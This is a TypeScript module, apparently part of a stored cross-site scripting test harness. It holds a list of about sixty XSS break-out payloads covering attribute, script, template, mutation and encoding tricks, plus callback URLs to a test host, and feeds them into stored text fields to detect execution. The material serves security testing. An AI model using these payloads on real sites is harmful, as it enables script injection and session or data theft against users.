import { payloads } from './xss-payloads.ts';

/**
 * Words that were typed or sent and are shown again later: what breaks out of an attribute, an address, a script, a template, a style, and
 * what is no longer itself once it was folded or cut. `JS`, `URL`, `HOST`, `N` as in `xss-payloads.ts`.
 */
const BREAK_OUT: string[] = [
  '"><img src=x onerror=JS>',
  "'><img src=x onerror=JS>",
  '`><img src=x onerror=JS>',
  '" autofocus onfocus=JS x="',
  "' autofocus onfocus=JS x='",
  '" onmouseover=JS style="position:fixed;inset:0" x="',
  '--><img src=x onerror=JS><!--',
  '</title><img src=x onerror=JS>',
  '</textarea><img src=x onerror=JS>',
  '</style><img src=x onerror=JS>',
  '</script><img src=x onerror=JS>',
  '</option></select><img src=x onerror=JS>',
  ']]><img src=x onerror=JS>',
  '"}]};JS;//',
  "');JS;//",
  '";JS;//',
  '\u0024{JS}',
  '#{JS}',
  '{{constructor.constructor("JS")()}}',
  '{{$on.constructor("JS")()}}',
  '<%= JS %>',
  '[[\u0024{JS}]]',
  'javascript:JS',
  'JaVaScRiPt:JS',
  'java\tscript:JS',
  ' javascript:JS',
  'javascript&colon;JS',
  'data:text/html,<script>JS</script>',
  'vbscript:JS',
  '//HOST/hit/N',
  '\\\\HOST\\hit\\N',
  'URL',
  'url(URL)',
  'red;background:url(URL)',
  '}body{background:url(URL)}',
  '<a href="javascript:JS">Mở</a>',
  '[Mở](javascript:JS)',
  '![x](URL)',
  '<svg><style><img src="</style><img src=x onerror=JS>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=JS>">',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>',
  '<template><img src=x onerror=JS></template>',
  '<div><template shadowrootmode=open><img src=x onerror=JS></template></div>',
  '＜img src=x onerror=JS＞',
  '‹img src=x onerror=JS›',
  '<\u200bimg src=x onerror=JS>',
  '<img\u00a0src=x\u00a0onerror=JS>',
  '\u202e<img src=x onerror=JS>',
  '<ImG sRc=x OnErRoR=JS>',
  '&lt;img src=x onerror=JS&gt;',
  '&#60;img src=x onerror=JS&#62;',
  '%3Cimg src=x onerror=JS%3E',
  '\\u003cimg src=x onerror=JS\\u003e',
  '<İmg src=x onerror=JS><ſcript>JS</ſcript>',
  '<kbd accesskey=x onclick=JS>x</kbd>',
  '<a id=me><a id=me name=user href="javascript:JS">',
  '<form id=root><input name=innerHTML value="<img src=x onerror=JS>">',
  '<base href=http://HOST/hit/N/>',
  '<meta http-equiv=refresh content="0;url=URL">',
];

/** As a person in an office would send them: in the middle of Vietnamese words. */
const AROUND = ['V/v rà soát ', ' của xã Bình Lư ', ', kính gửi Ủy ban nhân dân ', ' – "hỏa tốc" '];

interface Stored {
  number: number;
  text: string;
}

/** Every payload of the mail, and those of words that are stored, each with a number it runs or asks under. */
export function storedPayloads(host: string): Stored[] {
  const mail = payloads(host).map(({ number, html }) => ({ number, text: html }));
  const own = BREAK_OUT.map((written, index) => {
    const number = mail.length + index;
    const text = written
      .replaceAll('JS', 'top.ran(N)')
      .replaceAll('URL', 'http://HOST/hit/N')
      .replaceAll('HOST', host)
      .replaceAll(/\bN\b/g, String(number));
    return { number, text };
  });
  return [...own, ...mail];
}

/** Hands the payloads out, round after round, as many in one text as it holds. */
export class Words {
  readonly #all: readonly Stored[];
  readonly #given = new Set<number>();
  #next = 0;

  constructor(host: string) {
    // What JSON or a text of PostgreSQL cannot hold is refused at the door, which is tested there.
    this.#all = storedPayloads(host).filter(({ text }) => !text.includes('\0'));
  }

  get size(): number {
    return this.#all.length;
  }

  /** Numbers of those that were handed out. */
  get given(): ReadonlySet<number> {
    return this.#given;
  }

  take(length: number): string {
    let text = '';
    for (let tries = 0; tries < this.#all.length; tries += 1) {
      const next = this.#all[this.#next % this.#all.length];
      const more = next === undefined ? '' : `${AROUND[this.#next % AROUND.length] ?? ''}${next.text}`;
      if (next === undefined || (text !== '' && text.length + more.length > length)) {
        break;
      }
      this.#next += 1;
      if (text.length + more.length <= length) {
        text += more;
        this.#given.add(next.number);
      }
    }
    return text;
  }
}
